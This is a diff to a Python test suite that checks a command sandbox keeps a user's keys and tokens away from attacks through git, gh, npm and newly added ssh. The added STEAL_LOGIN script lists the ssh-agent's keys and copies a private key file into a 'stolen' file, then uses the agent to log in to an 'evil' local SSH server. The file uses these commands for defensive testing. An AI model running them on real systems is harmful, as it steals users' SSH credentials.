@@ -17,7 +17,9 @@ from tests import confined
 from tests.sandbox.keys import servers
 from tests.sandbox.keys.conftest import PASSWORD
 from tests.sandbox.keys.home import Home, allow
-from tests.sandbox.keys.servers import Server
+from tests.sandbox.keys.servers import Server, SshServer
+from tests.sandbox.keys.test_git_ssh import needs_sshd
+from tests.sandbox.keys.test_git_ssh import ssh as ssh
 from tests.sandbox.keys.test_stand_ins import install
 from tests.sandbox.keys.test_token_files import GH, NPM_ALLOWS, needs_npm
 from tests.sandbox.test_run import ROOT, RUN, command
@@ -47,17 +49,29 @@ class Attack(Value):
 
 
 SCRIPT = {"steal": STEAL}
-ATTACKS = tomllib.loads((Path(__file__).parent / "attacks.toml").read_text())
+STEAL_LOGIN = """ssh-add -L >> PROJECT/stolen
+cat ~/user-key >> PROJECT/stolen
+timeout 3 ssh -F ~/ssh-settings -o BatchMode=yes -p EVILPORT root@127.0.0.1 true
+timeout 3 ssh -F ~/ssh-settings -o BatchMode=yes -p GOODPORT root@127.0.0.1 \
+  'echo canary-7f"3a9c" > PROJECT/in'
+"""
+LOGS_IN = "".join(
+    f'prefix_rule(["{name}"], "allow", effects = ["network", "remote", "read", "write"])\n'
+    for name in ("ssh", "scp", "rsync")
+)
 AGAIN = "for i in $(seq 400); do"
+_ROWS = [tomllib.loads(path.read_text()) for path in Path(__file__).parent.glob("*attacks.toml")]
+BESIDE: dict[str, str] = {name: text for rows in _ROWS for name, text in rows["beside"].items()}
 
 
 def attacks(program: str) -> list[ParameterSet]:
     """Those on the calls of one program, each under its name."""
-    return [pytest.param(Attack(**_fields(one)), id=one["name"]) for one in ATTACKS[program]]
+    return [_row(dict(one)) for rows in _ROWS for one in rows.get(program, ())]
 
 
-def _fields(one: dict[str, Any]) -> dict[str, Any]:
-    return {name: value for name, value in one.items() if name != "name"}
+def _row(one: dict[str, Any]) -> ParameterSet:
+    name, each_day = one.pop("name"), one.pop("each_day", False)
+    return pytest.param(Attack(**one), id=name, marks=() if each_day else pytest.mark.rest)
 
 
 @pytest.fixture
@@ -80,12 +94,14 @@ class Field:
         home.write(".npmrc", f"registry=http://{place}/\n//{place}/:_authToken={PASSWORD}\n")
         home.program("gh", f"{GH}git status >/dev/null\n")
         allow(project, good.port, evil.port, more=NPM_ALLOWS)
+        self.names = {"STEAL": STEAL}
+        self.logs: tuple[Path, ...] = ()
 
     def filled(self, text: str) -> str:
         """A text with the names of this field."""
         branch = ["git", "-C", str(self.project), "branch", "--show-current"]
         names = {
-            "STEAL": STEAL,
+            **self.names,
             "AGAIN": AGAIN,
             "CANARY": PASSWORD,
             "PROJECT": str(self.project),
@@ -138,6 +154,9 @@ class Field:
     def lost(self, said: str) -> list[str]:
         """Where the key has got to: the project, the attacker's server, what is shown."""
         shown = [("shown", said)] if _has_key(said) else []
+        shown += [
+            (str(log), PASSWORD) for log in self.logs if "Accepted publickey" in log.read_text()
+        ]
         asked = [(one.path, f"{one.headers} {one.body!r}") for one in self.evil.asked]
         asked += [(one.path, repr(one.body)) for one in self.good.asked]
         found = os.walk(self.project)  # which may change meanwhile
@@ -158,7 +177,70 @@ def _content(path: Path) -> str:
 
 
 def _has_key(text: str) -> bool:
-    return PASSWORD in text or base64.b64encode(f"user:{PASSWORD}".encode()).decode() in text
+    return (
+        PASSWORD in text
+        or "PRIVATE KEY" in text
+        or base64.b64encode(f"user:{PASSWORD}".encode()).decode() in text
+    )
+
+
+class Logins(Value):
+    """Two servers of ssh that take the user's key, of which one is the attacker's, and the log of
+    the agent that has it."""
+
+    good: SshServer
+    evil: SshServer
+    agent: Path
+
+    @property
+    def accepted(self) -> int:
+        """How often the user was logged in where that was asked for."""
+        return self.good.log.read_text().count("Accepted publickey")
+
+    @property
+    def signed(self) -> int:
+        """How often the agent has signed (SSH_AGENTC_SIGN_REQUEST)."""
+        return self.agent.read_text().count("type 13\n")
+
+    def on(self, field: Field) -> Field:
+        """The same field, with attacks by ssh."""
+        field.logs = (self.evil.log,)
+        at = f"ports = [{self.evil.port}]"
+        allow(
+            field.project, more=f'network_rule("127.0.0.1", "ssh", "forbidden", {at})\n' + LOGS_IN
+        )
+        ssh = f'#!/bin/sh\nexec /usr/bin/ssh -F {field.home.path}/ssh-settings "$@"\n'
+        field.home.program("ssh", ssh)
+        ports = {"EVILPORT": str(self.evil.port), "GOODPORT": str(self.good.port)}
+        spots = {
+            "EVILSSH": f"127.0.0.1:{self.evil.port}",
+            "GOODHOST": f"127.0.0.1:{self.good.port}",
+        }
+        login = f"-p {self.good.port} root@127.0.0.1"
+        field.names = {"STEAL": STEAL + STEAL_LOGIN, "LOGIN": login, **ports, **spots}
+        (field.project / "steal").write_text(field.filled("STEAL"))
+        (field.project / "steal").chmod(0o755)
+        return field
+
+
+@pytest.fixture
+def logins(
+    base: Path, home: Home, ssh: SshServer, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[Logins]:
+    """An agent with the key, which lists it by the canary."""
+    key, known = home.path / "user-key", home.path / "known"
+    words = ["ssh-keygen", "-q", "-c", "-P", "", "-C", PASSWORD, "-f", str(key)]
+    subprocess.run(words, check=True)
+    public, log = key.with_suffix(".pub").read_text(), base / "agent.log"
+    with (
+        servers.sshd(base / "evil-sshd", public) as evil,
+        servers.agent(home.path / "agent", log),
+    ):
+        host = (base / "evil-sshd/host.pub").read_text()
+        known.write_text(f"{known.read_text()}[127.0.0.1]:{evil.port} {host}")
+        monkeypatch.setenv("SSH_AUTH_SOCK", str(home.path / "agent"))
+        subprocess.run(["ssh-add", "-q", str(key)], check=True)
+        yield Logins(ssh, evil, log)
 
 
 @pytest.fixture
@@ -175,13 +257,17 @@ def token_field(home: Home, project: Path, evil: Server) -> Iterator[Field]:
         yield Field(home, project, server, evil)
 
 
-@pytest.mark.rest
+@pytest.fixture
+def ssh_field(home: Home, project: Path, evil: Server, logins: Logins) -> Field:
+    """A project with a remote of ssh, and a user whose agent has the key."""
+    return logins.on(Field(home, project, evil, evil))
+
+
 @pytest.mark.parametrize("attack", attacks("git"))
 def test_git_loses_no_key(field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
     _tried(field, attack, monkeypatch)
 
 
-@pytest.mark.rest
 @pytest.mark.parametrize("attack", attacks("gh"))
 def test_gh_loses_no_key(
     token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
@@ -190,7 +276,6 @@ def test_gh_loses_no_key(
 
 
 @needs_npm
-@pytest.mark.rest
 @pytest.mark.parametrize("attack", attacks("npm"))
 def test_npm_loses_no_key(
     token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
@@ -198,13 +283,24 @@ def test_npm_loses_no_key(
     _tried(token_field, attack, monkeypatch)
 
 
-@pytest.mark.rest
 @pytest.mark.parametrize("attack", attacks("stand_in"))
 def test_stand_ins_lose_no_key(
     token_field: Field, monkeypatch: pytest.MonkeyPatch, attack: Attack
 ) -> None:
     install(token_field.home, token_field.project, token_field.good.port)
     _tried(token_field, attack, monkeypatch)
+
+
+@needs_sshd
+@pytest.mark.parametrize("attack", attacks("ssh"))
+def test_an_agent_signs_for_no_other(
+    ssh_field: Field, logins: Logins, monkeypatch: pytest.MonkeyPatch, attack: Attack
+) -> None:
+    ssh_field.prepare(attack, monkeypatch)
+    assert not ssh_field.lost(ssh_field.run(attack.text))
+    assert logins.signed <= logins.accepted
+    if attack.real:
+        assert ssh_field.lost(ssh_field.run_outside(attack.text)), "it is no attack"
 
 
 def _tried(field: Field, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -216,7 +312,7 @@ def _tried(field: Field, attack: Attack, monkeypatch: pytest.MonkeyPatch) -> Non
 
 
 @pytest.mark.rest
-@pytest.mark.parametrize("name", ATTACKS["beside"])
+@pytest.mark.parametrize("name", BESIDE)
 @pytest.mark.parametrize("text", ["git fetch", "gh pr view 4", "npm whoami"])
 def test_a_run_beside_gets_no_key(
     field: Field, monkeypatch: pytest.MonkeyPatch, name: str, text: str
@@ -228,7 +324,7 @@ def test_a_run_beside_gets_no_key(
     session = ["--session", str(os.getpid())]
     (field.project / "sub").mkdir()
     words = [*RUN, "--rules", rules, *session]
-    script = field.filled(f"touch began; {ATTACKS['beside'][name]}")
+    script = field.filled(f"touch began; {BESIDE[name]}")
     project, sub = str(field.project), str(field.project / "sub")
     with Process([*words, "--cwd", project, "-c", script], cwd=ROOT) as beside:
         until((field.project / "began").exists)
